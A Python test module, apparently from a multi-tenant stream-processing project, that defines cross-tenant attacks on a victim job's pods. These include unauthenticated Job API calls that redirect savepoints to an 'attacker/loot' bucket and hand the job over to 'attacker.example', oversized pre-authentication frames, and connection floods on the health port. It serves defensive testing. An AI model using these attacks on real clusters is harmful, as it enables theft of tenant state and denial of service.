"""Attacks on the ports of the victim's pods, from a pod of another tenant.

The local cluster's network enforces no NetworkPolicy, so these reach the ports: what refuses them
is the job itself.
"""

import contextlib
import http.client
import json
import socket
import ssl
from collections.abc import Iterator

from dev.attack.attack import Attack, Succeeded
from dev.attack.world import World, settle

JOB_API, CONTROL, DATA, HEALTH = 8081, 7001, 7000, 8082
SECONDS = 20
HUGE = 256 << 20


def trusting() -> ssl.SSLContext:
    """A caller that believes every server and has no certificate."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


@contextlib.contextmanager
def reached(world: World, port: int) -> Iterator[tuple[str, int]]:
    """The address of a port of the victim's coordinator."""
    with world.victim.port_forward(f"pod/{world.victim_job.pod()}", port) as address:
        host, _, number = address.rpartition(":")
        yield host, int(number)


def call(world: World, path: str, body: dict[str, object], secure: bool) -> str:
    """Calls the victim's Job API as a stranger; what refused the call."""
    with reached(world, JOB_API) as (host, port):
        connection = http.client.HTTPSConnection(host, port, context=trusting(), timeout=SECONDS) if secure else http.client.HTTPConnection(host, port, timeout=SECONDS)
        try:
            connection.request("POST", path, json.dumps(body), {"content-type": "application/json"})
            answer = connection.getresponse()
            text = answer.read(10_000).decode(errors="replace")
        except (ssl.SSLError, ConnectionError, http.client.HTTPException) as error:
            return f"{type(error).__name__}: {error}"
        finally:
            connection.close()
    if answer.status < 400:
        raise Succeeded(f"{path} answered {answer.status}: {text}")
    return f"{answer.status} {text}"


def calls(path: str, body: dict[str, object]) -> "Attack[World]":
    """The same call without TLS, and with TLS but no certificate."""

    def play(world: World) -> str:
        told = [call(world, path, body, secure) for secure in (False, True)]
        world.victim_unharmed()
        return "; ".join(told)

    return Attack(f"POST {path} {json.dumps(body)} by a stranger", play)


def huge_frame(port: int, name: str) -> "Attack[World]":
    """A frame that announces 256 MiB before the peer has said who it is."""

    def play(world: World) -> str:
        with reached(world, port) as address, socket.create_connection(address, timeout=SECONDS) as connection:
            connection.sendall(HUGE.to_bytes(4, "big") * 2)
            sent = 0
            try:
                while sent < HUGE:
                    connection.sendall(b"\0" * 65536)
                    sent += 65536
            except OSError as error:
                world.victim_unharmed()
                return f"closed after {sent >> 10} KiB: {error}"
        raise Succeeded(f"the {name} took {sent >> 20} MiB of a peer that it does not know")

    return Attack(f"256 MiB to the {name} before any identity", play)


def silent(count: int, seconds: float) -> "Attack[World]":
    """Connections to the port of health probes that say nothing."""

    def play(world: World) -> str:
        pod = world.victim_job.pod()
        before = restarts(world, pod)
        with reached(world, HEALTH) as address, contextlib.ExitStack() as held:
            for _ in range(count):
                with contextlib.suppress(OSError):
                    held.enter_context(socket.create_connection(address, timeout=SECONDS))
            settle(seconds)
        if restarts(world, pod) != before:
            raise Succeeded(f"the kubelet restarted {pod}: its probes found no place")
        world.victim_unharmed()
        return "probes of the kubelet got through"

    return Attack(f"{count} silent connections to the health port", play)


def restarts(world: World, pod: str) -> int:
    """How often a container of a pod has ended."""
    statuses = world.victim.get("pod", pod)["status"].get("containerStatuses", [])
    return sum(status["restartCount"] for status in statuses)


ATTACKS = [
    calls("/v1/savepoint", {"key": "theft", "uri": "s3://streamkeeper/state/attacker/loot"}),
    calls("/v1/hand-over", {"key": "end", "to_revision": (1 << 64) - 1, "to_address": "attacker.example:8081"}),
    calls("/v1/stop", {"key": "stop", "mode": "Now"}),
    calls("/v1/promote", {"key": "promote", "revision": 9, "from": "Empty"}),
    calls("/v1/rescale", {"key": "rescale", "parallelism": 1}),
    huge_frame(CONTROL, "control plane"),
    huge_frame(DATA, "data plane"),
    huge_frame(JOB_API, "Job API"),
    # The kubelet restarts a container after 30 s without an answer.
    silent(400, 40),
]
